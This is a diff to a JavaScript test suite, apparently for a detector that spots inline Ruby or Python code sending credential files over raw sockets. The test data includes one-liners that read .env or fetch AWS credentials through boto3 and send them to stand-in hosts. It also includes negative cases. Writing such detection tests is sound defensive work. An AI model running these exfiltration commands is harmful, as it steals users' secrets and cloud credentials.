@@ -102,6 +102,13 @@ describe('a credential file sent on a raw socket by inline code', () => {
       "require 'socket'; s=TCPSocket.new('h.example.net', 9); s.write File.read('.env')",
       [['h.example.net', 'file']],
     ],
+    // cloud credentials an SDK gives
+    [
+      'python3',
+      '-c',
+      "import boto3,socket; c=boto3.Session().get_credentials().get_frozen_credentials(); s=socket.create_connection(('198.51.100.7', 9000)); s.sendall(repr(c).encode())",
+      [['198.51.100.7', 'file']],
+    ],
     // a file that holds no credential, a credential read but sent to this machine, no file read
     [
       'python3',
@@ -119,6 +126,12 @@ describe('a credential file sent on a raw socket by inline code', () => {
       'python3',
       '-c',
       "import socket; s=socket.create_connection(('h.example.net', 9)); s.sendall(b'.env')",
+      [],
+    ],
+    [
+      'python3',
+      '-c',
+      "import boto3,socket; n=len(boto3.client('s3').list_buckets()['Buckets']); s=socket.create_connection(('h.example.net', 9)); s.sendall(str(n).encode())",
       [],
     ],
   ])('%s %s %s', (program, flag, code, want) => expect(sends(program, flag, code)).toEqual(want));
